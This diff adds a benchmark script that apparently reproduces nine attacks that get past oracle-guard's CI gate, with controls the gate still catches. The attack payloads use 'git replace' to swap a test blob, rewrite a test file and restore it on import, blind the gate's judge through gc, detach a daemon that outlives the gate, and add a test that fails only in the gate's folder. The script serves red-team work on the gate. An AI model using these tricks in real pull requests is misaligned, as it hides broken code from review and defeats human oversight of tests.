@@ -1,0 +1,305 @@
+"""Reproduce the attacks of ATTACKS.md 94-99 that get through the gate.
+
+94, 95, 96a, 96b, 96c, 96d, 97, 98 and 99; the caught ones are tests/test_ci_attacks_round5.py.
+
+    python benchmarks/attacks_open/round5.py [NAME ...] [--keep DIR]
+
+NAME is one of the names above (all of them by default), or a control: 94control (the install
+step weakens the checkout's property without replacing the blob), 98control (the forged begin
+left out), 99control (the new test without its tell); each control is caught (gate exit 1),
+which shows what the attack's one move is worth. Each scenario builds the repository of
+tests/test_ci_attacks.py (``dd``, adopted with ``oracle-guard init``, then the bug on
+``main``: ``dedupe`` drops the largest value past three distinct ones; 97 and 99 then set
+``require-fail-to-pass = true`` on main), commits the pull request on branch ``pr``, runs
+plain ``python -m pytest -q -p no:cacheprovider`` in a copy of the checkout (after the same
+install step, for 94), then the gate as the action runs it, ``python -I -m oracle_guard.cli
+ci --base main [--install-command ...] -- python -m pytest -q -p no:cacheprovider``. It
+prints "plain pytest exit N" and "gate exit N" per scenario and the gate's findings. Every
+one of the nine prints "gate exit 0" with the bug in place (97 and 99: with the bug fixed, and
+a new test that does not test the fix, which the project's require-fail-to-pass should
+refuse) and "plain pytest exit 0". 96c needs the checkout, the gate's temporary folder
+(where the reference tree is written) and the test environment in one folder other than
+``/``: the scenario builds its repository in a temporary folder inside ``sys.prefix`` (this
+environment's folder) and runs the gate with ``TMPDIR`` there, and removes it (in a
+temporary folder outside the environment the gate says OG717: the caught form,
+tests/test_ci_attacks_round5.py).
+
+Run it from the repository root with oracle-guard and its test extras installed; the
+repositories go into a temporary folder (``--keep DIR`` keeps them there).
+"""
+from __future__ import annotations
+
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+ROOT = os.path.dirname(os.path.dirname(HERE))
+sys.path.insert(0, os.path.join(ROOT, 'tests'))
+sys.path.insert(0, HERE)
+
+from ci_repo import copy_template  # noqa: E402
+from ci_repo import git  # noqa: E402
+from round3 import build  # noqa: E402
+from test_ci_attacks import BUG  # noqa: E402
+from test_ci_attacks import GOOD  # noqa: E402
+from test_ci_attacks import PYTEST  # noqa: E402
+from test_ci_attacks import UNIT_TESTS_FOR_THE_BUG  # noqa: E402
+from test_ci_attacks_round3 import PROPERTIES_CONFTEST  # noqa: E402
+from test_ci_attacks_round3 import SMALL_UNIT_TESTS  # noqa: E402
+from test_ci_attacks_round4 import FIND  # noqa: E402
+from test_ci_attacks_round4 import FIRST  # noqa: E402
+from test_ci_attacks_round4 import MAPPED_PROPERTY  # noqa: E402
+from test_ci_attacks_round4 import REWRITING_THE_TREE  # noqa: E402
+from test_ci_attacks_round4 import TIDY  # noqa: E402
+from test_ci_attacks_round5 import DAEMON  # noqa: E402
+from test_ci_attacks_round5 import FORGING_IN_ORDER  # noqa: E402
+from test_ci_attacks_round5 import NEW_TEST as SORTED_PAIR_TEST  # noqa: E402
+
+PROP = 'tests/properties/test_dd_props.py'
+
+# -- 94: the install step replaces the base property's blob (git replace) ----------------------
+# The change rules read the change before the install step; the reference tree, the
+# inventory and the twins are read from git objects after it, with the pull request's own
+# .git. `git replace` makes every git command (cat-file --batch too) answer the base
+# property's blob id with a weakened copy; the checkout's file gets the same bytes for the
+# test command. Nothing is left running; no file of the tree changes while its run goes on.
+REPLACING_INSTALL = r'''import subprocess
+
+PROP = 'tests/properties/test_dd_props.py'
+
+
+def git(*args, data=None):
+    return subprocess.run(('git',) + args, input=data, capture_output=True,
+                          check=True).stdout.decode().strip()
+
+
+with open(PROP, 'rb') as f:
+    strong = f.read()
+weak = strong.replace(b'== sorted(set(xs))', b'== dedupe(xs)')
+git('replace', '-f', git('rev-parse', 'HEAD:' + PROP),
+    git('hash-object', '-w', '--stdin', data=weak))
+with open(PROP, 'wb') as f:  # what the test command collects
+    f.write(weak)
+'''
+
+# -- 95: src rewrites the property in its own run's tree before it is compiled ----------------
+# The base's tests/properties/conftest.py imports the package (for its fixtures), so src runs
+# in each run before the property module is collected. It rewrites the property in the
+# working folder of its own process (the checkout in the test command, the reference tree in
+# the reference run): weakened, with two lines in front that put the original bytes back as
+# the module is imported. The assertion rewriter compiles what it reads; the code check
+# compares with that compile; the digests at the end see the gate's bytes.
+SELF_WEAKENING_SRC = '''\
+import os
+
+
+def _weaken():
+    prop = os.path.join(os.getcwd(), 'tests', 'properties', 'test_dd_props.py')
+    try:
+        with open(prop, 'rb') as f:
+            strong = f.read()
+    except OSError:
+        return
+    if b'== sorted(set(xs))' not in strong:
+        return
+    restore = b'with open(__file__, "wb") as _f:\\n    _f.write(%r)\\n' % strong
+    with open(prop, 'wb') as f:
+        f.write(restore + strong.replace(b'== sorted(set(xs))', b'== dedupe(xs)'))
+
+
+_weaken()
+
+
+''' + BUG
+
+# -- 96a, 96b: assume() called by Hypothesis's own code, asked for by the standard library ----
+# The judge takes an UnsatisfiedAssumption raised by Hypothesis (assume) as the property's own
+# when the nearest frame above it that is not Hypothesis's, generated or module code is not
+# under src. heapq.nsmallest (a file of the standard library) calls assume as its key: that
+# frame is outside the repository. 96a: in the property's call; 96b: while `.map(dedupe)`
+# draws (the base property of round 4's 85).
+TRAMPOLINE_SRC = 'import heapq\nimport sys\n\n\n' + FIND + '''
+
+def dedupe(xs):
+    out = sorted(set(xs))
+    if len(out) > 3:
+        cls = _find(BaseException, 'Unsatisfied' + 'Assumption')
+        hyp = sys.modules[cls.__module__.split('.')[0]]
+        heapq.nsmallest(1, [False], key=getattr(hyp, 'ass' + 'ume'))
+    return out
+'''
+
+# -- 96c: Hypothesis's folder moved to one that holds the checkout ---------------------------
+# The judge takes a frame for Hypothesis's when its file is in the folder of
+# `hypothesis.__file__`, read when it first judges. src sets that to the folder the checkout
+# and Hypothesis share: every frame (src's too) is Hypothesis's, and nothing is judged.
+REPOINTED_SRC = 'import os\nimport sys\n\n\n' + FIND + '''
+
+_hyp = sys.modules.get(_find(BaseException, 'Unsatisfied' + 'Assumption').__module__.split('.')[0])
+_hyp.__file__ = os.path.join(os.path.commonpath([os.path.abspath(__file__), _hyp.__file__]),
+                             'x.py')
+
+
+def dedupe(xs):
+    out = sorted(set(xs))
+    if len(out) > 3:
+        raise _find(BaseException, 'Unsatisfied' + 'Assumption')()
+    return out
+'''
+
+# -- 96d: the judge, found through gc, told that every file is Hypothesis's ------------------
+# The judge runs in the process that runs src: src finds its _Discards through gc and sets the
+# cached folder of Hypothesis to "/", then raises UnsatisfiedAssumption itself.
+BLINDING_SRC = 'import gc\n\n\n' + FIND + '''
+
+def _blind():
+    for obj in gc.get_objects():
+        if type(obj).__name__ == '_Dis' + 'cards' and '_hypothesis' in vars(obj):
+            obj._hypothesis = '/'  # every file is Hypothesis's: nothing is judged
+
+
+def dedupe(xs):
+    out = sorted(set(xs))
+    if len(out) > 3:
+        _blind()
+        raise _find(BaseException, 'Unsatisfied' + 'Assumption')()
+    return out
+'''
+
+# -- 97: a daemon src detaches in the reference run before it has collected ------------------
+# The gate takes the test command's mark of its children once the reference run has
+# collected, and the reference run's own mark after the test command: a process the reference
+# run's src detaches (fork, setsid, fork) while its conftests are imported is re-parented to
+# the gate before either mark, so it is in both, and in every evidence run's. It waits for the
+# new-test run's tree (rule 49) and makes the new test fail there, self-restoring as it is
+# imported, so the tree's digests match; it outlives the gate.
+DAEMON_SRC = 'import sys\n\nfrom dd import _daemon\n\nif sys.flags.isolated:\n' \
+    '    _daemon.daemonize()\n\n\n' + GOOD
+
+# -- 98: the test command released by a forged begin, in the plugin's order --------------------
+# The gate releases the test command on the reference process's first connection once it has
+# seen the plugin's configured, then a collected or a begin (what an xdist controller sends).
+# src, imported by the base's properties conftest, adds an audit hook: when the main thread
+# opens the tree's property to compile it (after the plugin's configured), it sends a begin
+# into the plugin's connection (found through gc) and waits until the test command has
+# rewritten the file (self-restoring as it is imported: round 4's REWRITING_THE_TREE). The
+# test command's own run is fooled by attack 93's root test module.
+RELEASING_SRC = FORGING_IN_ORDER.replace(
+    "b'{\"event\": \"collected\", \"items\": []}\\n'",
+    "b'{\"event\": \"begin\", \"nodeid\": \"tests/properties/test_dd_props.py::'\n"
+    "                    b'test_dedupe_matches_set\"}\\n'").replace(
+    'time.monotonic() + 5', 'time.monotonic() + 20')
+assert RELEASING_SRC != FORGING_IN_ORDER
+
+
+# -- 99: a new test that fails only in the new-test run (rule 49) -------------------------------
+# The new-test run's working folder is named new-tests: a new test that does not test the
+# change fails there by that tell, and require-fail-to-pass is met.
+NEW_TEST = '''\
+import os
+
+from dd import dedupe
+
+
+def test_dedupe_keeps_order_of_a_sorted_list():
+    assert os.path.basename(os.getcwd()) != 'new-tests'  # fails "without the change"
+    assert dedupe([1, 2]) == [1, 2]
+'''
+
+
+def scenarios() -> dict[str, tuple[dict[str, str], dict[str, str | None], tuple[str, ...]]]:
+    """name -> (the project before adoption, the pull request, the gate's options)."""
+    install = ('--install-command', 'python tools/install.py')
+    releasing = {'src/dd/__init__.py': RELEASING_SRC, 'test_a_first.py': FIRST,
+                 'tests/test_dd.py': REWRITING_THE_TREE + TIDY}
+    conftest = {'tests/properties/conftest.py': PROPERTIES_CONFTEST}
+    small = {'tests/test_dd.py': SMALL_UNIT_TESTS}
+    return {
+        '94': ({}, {'tools/install.py': REPLACING_INSTALL,
+                    'tests/test_dd.py': UNIT_TESTS_FOR_THE_BUG}, install),
+        '94control': ({}, {'tools/install.py': REPLACING_INSTALL.replace(
+            "git('replace'", "('replace'"), 'tests/test_dd.py': UNIT_TESTS_FOR_THE_BUG}, install),
+        '95': (conftest, {'src/dd/__init__.py': SELF_WEAKENING_SRC,
+                          'tests/test_dd.py': UNIT_TESTS_FOR_THE_BUG}, ()),
+        '96a': ({}, {'src/dd/__init__.py': TRAMPOLINE_SRC, **small}, ()),
+        '96b': ({PROP: MAPPED_PROPERTY}, {'src/dd/__init__.py': TRAMPOLINE_SRC, **small}, ()),
+        '96c': ({}, {'src/dd/__init__.py': REPOINTED_SRC, **small}, ()),
+        '96d': ({}, {'src/dd/__init__.py': BLINDING_SRC, **small}, ()),
+        '97': ({}, {'src/dd/_daemon.py': DAEMON, 'src/dd/__init__.py': DAEMON_SRC,
+                    'tests/test_new.py': SORTED_PAIR_TEST}, ()),
+        '98': (conftest, releasing, ()),
+        '98control': (conftest, {**releasing, 'src/dd/__init__.py': RELEASING_SRC.replace(
+            'plugins.sendall(', 'len(')}, ()),
+        '99': ({}, {'src/dd/__init__.py': GOOD, 'tests/test_new.py': NEW_TEST}, ()),
+        '99control': ({}, {'src/dd/__init__.py': GOOD, 'tests/test_new.py': NEW_TEST.replace(
+            "    assert os.path.basename(os.getcwd()) != 'new-tests'  # fails \"without the change\"\n",
+            '')}, ()),
+    }
+
+
+STRICT = ('97', '99', '99control')  # require-fail-to-pass = true on main
+
+
+def strict(repo) -> None:  # type: ignore[no-untyped-def]
+    path = os.path.join(repo.path, 'pyproject.toml')
+    with open(path, encoding='utf-8') as f:
+        text = f.read()
+    with open(path, 'w', encoding='utf-8') as f:
+        f.write(text.replace('[tool.oracle-guard]\n',
+                             '[tool.oracle-guard]\nrequire-fail-to-pass = true\n'))
+    git(repo.path, 'commit', '-q', '-am', 'new tests must fail without their change')
+
+
+def plain_run(repo, options):  # type: ignore[no-untyped-def]
+    """Plain pytest in a copy of the checkout, after the same install step (if any)."""
+    copy = copy_template(repo.path, repo.path + '-plain')
+    if '--install-command' in options:
+        command = options[options.index('--install-command') + 1]
+        subprocess.run(command, shell=True, cwd=copy.path, env=copy.env(), check=True)
+    return copy.finish(copy.start(PYTEST))
+
+
+def main(argv: list[str]) -> int:
+    keep = None
+    if '--keep' in argv:
+        keep = argv[argv.index('--keep') + 1]
+        argv = [a for a in argv if a not in ('--keep', keep)]
+    chosen = argv or [name for name in scenarios() if 'control' not in name]
+    folder = keep or tempfile.mkdtemp(prefix='round5-attacks-')
+    through = 0
+    made: list[str] = []
+    try:
+        for name in chosen:
+            project, pull_request, options = scenarios()[name]
+            env = {}
+            if name == '96c':  # the checkout and the trees beside the test environment
+                beside = tempfile.mkdtemp(prefix='round5-96c-', dir=sys.prefix)
+                made.append(beside)
+                env['TMPDIR'] = beside
+            repo = build(os.path.join(env.get('TMPDIR', folder), name), project,
+                         {'src/dd/__init__.py': BUG})
+            if name in STRICT:
+                strict(repo)
+            repo.pull_request(pull_request, bug=False)
+            plain = plain_run(repo, options)
+            ci = repo.finish(repo.start([sys.executable, '-I',
+                                         *repo.ci_args(PYTEST, *options)[1:]], env))
+            found = [line for line in ci.out.splitlines() if line.startswith(
+                ('oracle-guard ci:', 'tests/', 'src/', '.:', 'tools/')) and ' note: ' not in line]
+            print(f'== {name}: plain pytest exit {plain.rc}, gate exit {ci.rc}')
+            print('\n'.join(found))
+            through += ci.rc == 0
+    finally:
+        for beside in made:
+            shutil.rmtree(beside, ignore_errors=True)
+        if keep is None:
+            shutil.rmtree(folder, ignore_errors=True)
+    print(f'{through} of {len(chosen)} got through (gate exit 0)')
+    return 0
+
+
+if __name__ == '__main__':
+    raise SystemExit(main(sys.argv[1:]))
